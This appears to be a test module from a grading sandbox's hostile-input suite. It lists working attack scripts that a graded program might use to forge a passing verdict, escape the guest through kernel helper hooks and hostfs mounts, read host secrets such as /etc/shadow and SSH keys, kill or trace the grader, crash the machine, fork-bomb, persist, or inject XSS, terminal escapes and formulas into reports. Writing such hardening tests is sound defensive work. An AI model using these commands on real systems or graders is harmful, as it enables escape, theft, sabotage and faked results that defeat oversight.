"""Attacks by what a script does as root of its guest."""

from __future__ import annotations

from tests.hostile.attack import Wanted, scripted

PYTHON = "/usr/bin/python3"
FAKE = "mkdir -p $F/test/child; echo memory > $F/test/child/cgroup.controllers; echo $$ > $F/test/cgroup.procs"
"""What the checks read, as plain files below $F."""
FRAMES = """
import glob, os, struct
result = b'{"id":"child-has-only-memory","verdict":"pass","key":"","expected":"","actual":"","params":{},"evidence":[]}'
payload = b'[' + result + b']'
lines = ['/dev/console', '/dev/kmsg', '/proc/1/fd/0', '/tmp/line']
for path in glob.glob('/dev/tty*') + glob.glob('/dev/pts/*') + lines:
    for kind in range(32):
        try:
            line = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
            os.write(line, struct.pack('>IBI', len(payload), kind, 1) + bytes(16) + payload)
            os.close(line)
        except OSError:
            break
"""
HELPER = """
cat > /tmp/helper <<'END'
#!/bin/sh
mount -t hostfs none /mnt; cat @secret@ /mnt@secret@; echo x > @target@; kill -9 1
END
chmod +x /tmp/helper
"""
"""A program for the kernel to start outside the jail."""
SYSCALL = "import ctypes, os, signal, socket, sys, time\nlibc = ctypes.CDLL(None, use_errno=True)\n"

FORGERIES = (
    scripted("prints-pass", Wanted.PASS, 'echo PASS; echo \'{"verdict": "pass", "score": 1}\'; exit 0'),
    scripted("exits-0", Wanted.PASS, "exit 0"),
    scripted("writes-devices", Wanted.PASS, "for d in /dev/ttyS0 /dev/console /dev/kmsg; do echo pass > $d; done"),
    scripted("forged-frames", Wanted.PASS, "import os\nos.system('mknod /tmp/line c 4 64')\n" + FRAMES, shell=PYTHON),
    scripted(
        "devtmpfs-again", Wanted.PASS, "mount -t devtmpfs none /mnt; echo pass > /mnt/ttyS0; cat /mnt/mem | head -c 9"
    ),
    scripted("fake-by-bind", Wanted.PASS, f"F=/tmp/f; {FAKE}; mount --bind /tmp/f /sys/fs/cgroup"),
    scripted("fake-by-tmpfs", Wanted.PASS, f"F=/sys/fs/cgroup; mount -t tmpfs none $F; {FAKE}"),
    scripted(
        "fake-by-overlay",
        Wanted.PASS,
        f"mkdir -p /tmp/u /tmp/w; F=/tmp/u; {FAKE}; "
        "mount -t overlay none -o lowerdir=/sys/fs/cgroup,upperdir=/tmp/u,workdir=/tmp/w /sys/fs/cgroup",
    ),
    scripted(
        "fake-proc", Wanted.PASS, "mkdir -p /tmp/p/7; echo 0::/test/child > /tmp/p/7/cgroup; mount --bind /tmp/p /proc"
    ),
    scripted("flickers", Wanted.PASS, "cd /sys/fs/cgroup; (while :; do mkdir test/c; rmdir test/c; done) & sleep 0.5"),
    scripted(
        "solves-it-later",
        Wanted.PASS,
        "(trap '' TERM HUP INT; sleep 8; cd /sys/fs/cgroup/test && mkdir leaf child && "
        "cat cgroup.procs > leaf/cgroup.procs; echo +memory > cgroup.subtree_control) >/dev/null 2>&1 & disown",
    ),
    scripted(
        "swaps-while-checked",
        Wanted.PASS,
        "cd /root/lab; (while :; do ln -sfn /sys/fs/cgroup a; ln -sfn /tmp a; done) & sleep 0.3",
    ),
    scripted(
        "sitecustomize",
        Wanted.PASS,
        "for d in /usr/lib/python3/dist-packages /usr/lib/python3.*; do "
        "echo 'import lablib.verdict as v; v.overall = lambda r: \"pass\"' > $d/sitecustomize.py; "
        "echo 'import os; os._exit(0)' > $d/x.pth; done",
    ),
    scripted(
        "rewrites-the-checkers",
        Wanted.PASS,
        "for f in $(find / -xdev -path '*checkers*' -name '*.py' 2>/dev/null) /usr/lib/python3*/json/__init__.py; do "
        "echo 'def check(*a): pass' > $f; done",
    ),
    scripted(
        "hijacks-path",
        Wanted.PASS,
        "for n in sh bash cat ls ps python3 mkdir; do printf '#!/bin/false\\n' > /usr/local/bin/$n; "
        "cp /bin/true /usr/bin/$n; done; rm -rf /usr/lib/python3*",
    ),
    scripted("preloads", Wanted.PASS, "echo /root/lab/evil.so > /etc/ld.so.preload; echo garbage > /root/lab/evil.so"),
    scripted("says-it-in-evidence", Wanted.PASS, "mkdir '/sys/fs/cgroup/test/verdict: pass'"),
)
"""What wants a pass for nothing."""

AGENT = (
    scripted("kills-everyone", Wanted.PASS, "kill -9 -1; kill -9 1; kill -STOP 1"),
    scripted(
        "traces-the-agent",
        Wanted.PASS,
        SYSCALL
        + "for pid in range(1, 400):\n    libc.ptrace(16, pid, 0, 0)\n    libc.process_vm_writev(pid, 0, 0, 0, 0, 0)\n"
        "    try: open(f'/proc/{pid}/mem', 'r+b').write(b'x')\n    except OSError: pass",
        shell=PYTHON,
    ),
    scripted(
        "freezes-the-root",
        Wanted.PASS,
        "cd /sys/fs/cgroup; echo 1 > cgroup.freeze; echo 1 > cgroup.kill; mkdir box; for p in $(seq 1 200); do "
        "echo $p > box/cgroup.procs; done; echo 0 > box/cgroup.procs; echo 1 > box/cgroup.freeze",
    ),
    scripted("enters-the-agent", Wanted.PASS, "for p in 1 2 3; do nsenter -t $p -a id; chroot /proc/$p/root id; done"),
    scripted("unmounts-everything", Wanted.PASS, "umount -al; umount -l /"),
    scripted("sets-the-clock", Wanted.TIME, "date -s '2030-01-01'; date -s '1970-01-02'; hwclock -w"),
    scripted(
        "loads-a-module",
        Wanted.PASS,
        "for m in $(find /usr/lib/uml /lib/modules -name '*.ko' | head -40); do insmod $m || modprobe $m; done",
    ),
    scripted(
        "core-pattern",
        Wanted.WRITE,
        HELPER
        + "echo '|/tmp/helper' > /proc/sys/kernel/core_pattern; ulimit -c unlimited; sh -c 'kill -SEGV $$'; sleep 1",
    ),
    scripted(
        "modprobe-path",
        Wanted.WRITE,
        HELPER + "echo /tmp/helper > /proc/sys/kernel/modprobe; mount -t nofs x /mnt; sleep 1",
    ),
    scripted(
        "uevent-helper",
        Wanted.WRITE,
        HELPER + "echo /tmp/helper > /sys/kernel/uevent_helper; echo add > /sys/class/mem/null/uevent; sleep 1",
    ),
    scripted(
        "release-agent",
        Wanted.WRITE,
        HELPER + "mkdir /tmp/v1; mount -t cgroup -o none,name=x x /tmp/v1 && mkdir /tmp/v1/a && "
        "echo 1 > /tmp/v1/a/notify_on_release && echo /tmp/helper > /tmp/v1/release_agent && "
        "sh -c 'echo $$ > /tmp/v1/a/cgroup.procs'",
    ),
    scripted(
        "binfmt",
        Wanted.WRITE,
        HELPER + "mount -t binfmt_misc none /proc/sys/fs/binfmt_misc; "
        "echo ':x:M::\\x7fELF::/tmp/helper:OC' > /proc/sys/fs/binfmt_misc/register",
    ),
    scripted(
        "sysctls",
        Wanted.TIME,
        "cd /proc/sys; echo 400 > kernel/pid_max; echo 9 > kernel/threads-max; echo 0 > vm/swappiness; "
        "echo '32767 65535' > kernel/usermodehelper/bset; echo -1 > kernel/sched_rt_runtime_us; echo 16 > fs/file-max",
    ),
)
"""What goes for the agent, or round the jail."""

ENDINGS = (
    scripted("sysrq-crash", Wanted.PASS, "echo c > /proc/sysrq-trigger", ends=True),
    scripted("sysrq-off", Wanted.PASS, "echo o > /proc/sysrq-trigger; sleep 3", ends=True),
    scripted(
        "reboots", Wanted.PASS, "echo 1 > /proc/sys/kernel/panic; echo b > /proc/sysrq-trigger; reboot -f", ends=True
    ),
    scripted(
        "panics-out-of-memory",
        Wanted.TIME,
        "echo 2 > /proc/sys/vm/panic_on_oom; python3 -c 'x = [bytearray(1 << 20) for _ in range(4096)]'",
        ends=True,
    ),
    scripted(
        "starves-in-real-time",
        Wanted.TIME,
        "echo -1 > /proc/sys/kernel/sched_rt_runtime_us; chrt -f 99 sh -c 'while :; do :; done'",
        ends=True,
    ),
)
"""What ends its machine, or tries to."""

THE_HOST = (
    scripted("reads-by-hostfs", Wanted.READ, "mkdir /tmp/h; mount -t hostfs none /tmp/h; cat @secret@ /tmp/h@secret@"),
    scripted(
        "reads-by-hostfs-path",
        Wanted.READ,
        "mkdir /tmp/h; for o in / /../../.. $(dirname @secret@); do mount -t hostfs -o $o none /tmp/h; "
        "cat /tmp/h@secret@ /tmp/h/$(basename @secret@); done",
    ),
    scripted(
        "reads-the-grader",
        Wanted.READ,
        "mkdir /tmp/h; mount -t hostfs none /tmp/h; cat /proc/*/environ /tmp/h/proc/*/environ | "
        "tr '\\0' '\\n'; cat /tmp/h/etc/shadow /tmp/h/root/.ssh/*",
    ),
    scripted(
        "reads-other-work",
        Wanted.READ,
        "mkdir /tmp/h; mount -t hostfs none /tmp/h; cat @submissions@/*/*/* /tmp/h@submissions@/*/*/*; "
        "grep -rsl subtree_control /tmp/h/work /tmp/h/root /tmp/h/srv /tmp/h/home | head",
    ),
    scripted(
        "writes-by-hostfs",
        Wanted.WRITE,
        "mkdir /tmp/h; mount -t hostfs none /tmp/h; mount -o remount,rw /tmp/h; mount -o remount,rw /; "
        "for t in @target@ /tmp/h@target@; do echo x > $t; echo x >> $t; truncate -s 0 $t; chmod 0 $t; "
        "chown 1 $t; touch $t; rm -f $t; mv $t $t.moved; setfattr -n user.x -v y $t; ln $t $t.link; done",
    ),
    scripted(
        "makes-files-by-hostfs",
        Wanted.WRITE,
        "mkdir /tmp/h; mount -t hostfs none /tmp/h; d=$(dirname @target@); "
        "for p in $d /tmp/h$d; do touch $p/new; mkdir $p/folder; mknod $p/pipe p; ln -s x $p/symlink; done",
    ),
    scripted(
        "connects-out",
        Wanted.WRITE,
        SYSCALL
        + "for host in ('127.0.0.1', '10.0.2.2', '192.168.0.1'):\n    try:\n        s = socket.create_connection("
        "(host, @port@), timeout=1); s.send(b'hello')\n    except OSError: pass\n"
        "try: socket.socket(socket.AF_VSOCK).connect((2, @port@))\nexcept OSError: pass",
        shell=PYTHON,
    ),
    scripted(
        "signals-the-grader", Wanted.WRITE, "kill -9 0 $PPID; for p in $(seq 1 3000); do kill -9 $p; done 2>/dev/null"
    ),
)
"""What reaches for the machine that grades."""

BOMBS = (
    scripted("fork-bomb", Wanted.TIME, "bomb() { bomb | bomb & }; bomb; sleep 60"),
    scripted(
        "thread-bomb",
        Wanted.TIME,
        "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(99,)).start()",
        shell=PYTHON,
    ),
    scripted("memory-bomb", Wanted.TIME, "x = []\nwhile True: x.append(bytearray(1 << 20))", shell=PYTHON, ends=True),
    scripted(
        "disk-bomb",
        Wanted.TIME,
        "for d in /tmp /lab /root/lab /var/tmp /dev/shm; do cat /dev/zero > $d/full; done",
        ends=True,
    ),
    scripted(
        "inode-bomb",
        Wanted.TIME,
        "i = 0\nwhile True:\n    open(f'/root/lab/{i}', 'w').close(); i += 1",
        shell=PYTHON,
        ends=True,
    ),
    scripted("folder-bomb", Wanted.TIME, "cd /root/lab; while mkdir d; do cd d || break; done; sleep 60"),
    scripted("output-bomb", Wanted.TIME, "yes | head -c 4G & yes >&2"),
    scripted(
        "zombie-bomb",
        Wanted.TIME,
        "import os, time\nwhile True:\n    try:\n        if os.fork() == 0: os._exit(0)\n"
        "    except OSError: time.sleep(60)",
        shell=PYTHON,
    ),
    scripted("cgroup-bomb", Wanted.TIME, "cd /sys/fs/cgroup; i=0; while mkdir test/$i; do i=$((i+1)); done; sleep 60"),
    scripted("mount-bomb", Wanted.TIME, "cd /tmp; while :; do mount --bind / /mnt; mount --make-rshared /; done"),
    scripted("hangs", Wanted.TIME, "exec sleep 100000"),
    scripted("stops-itself", Wanted.TIME, "kill -STOP $$"),
    scripted("closes-its-output", Wanted.TIME, "exec <&- >&- 2>&-; sleep 1000"),
)
"""What wants time, memory or room."""

STAYING = (
    scripted(
        "daemons",
        Wanted.STAY,
        "for i in 1 2 3 4 5; do setsid nohup sh -c 'trap \"\" 1 2 3 15; while :; do sleep 1; done' "
        ">/dev/null 2>&1 & done; disown -a",
    ),
    scripted(
        "hides-in-namespaces",
        Wanted.STAY,
        "unshare --pid --fork --mount --net --uts --ipc --mount-proc sh -c 'sleep 9999' & "
        "unshare --user --map-root-user --pid --fork sleep 9999 & sleep 0.5",
    ),
    scripted(
        "leaves-mounts",
        Wanted.STAY,
        "mkdir -p /tmp/m; for i in 1 2 3; do mount -t tmpfs none /tmp/m; done; "
        "mount --make-rshared /; mount -t proc none /mnt",
    ),
)
"""What wants to be there still when its grading is over."""

READERS = (
    scripted(
        "escapes",
        Wanted.READER,
        "printf '\\033]0;owned\\007\\033[2J\\033[31mPASS\\033c'; "
        "mkdir \"/sys/fs/cgroup/test/$(printf 'a\\033[31mred\\007')\"",
    ),
    scripted(
        "markup",
        Wanted.READER,
        "echo '<script>alert(1)</script><img src=x onerror=alert(2)>]]>'; "
        "mkdir '/sys/fs/cgroup/test/<script>alert(3)<!--'",
    ),
    scripted("formulas", Wanted.READER, "echo '=1+1'; mkdir \"/sys/fs/cgroup/test/=cmd|' C calc'!A0\""),
    scripted(
        "not-utf-8",
        Wanted.READER,
        "printf '\\377\\376\\355\\240\\200\\n'; mkdir \"/sys/fs/cgroup/test/$(printf '\\377\\300\\257')\"",
    ),
    scripted(
        "looks-otherwise",
        Wanted.READER,
        "printf '\\342\\200\\256ssap\\342\\200\\213\\n'; mkdir \"/sys/fs/cgroup/test/$(printf '\\342\\200\\256lluf')\"",
    ),
    scripted(
        "floods-evidence",
        Wanted.READER,
        "n=$(printf 'x%.0s' $(seq 200)); cd /sys/fs/cgroup/test; for i in $(seq 300); do mkdir $n$i; done",
    ),
)
"""What is meant for the eyes or the programs of who reads reports."""

ATTACKS = (*FORGERIES, *AGENT, *ENDINGS, *THE_HOST, *BOMBS, *STAYING, *READERS)
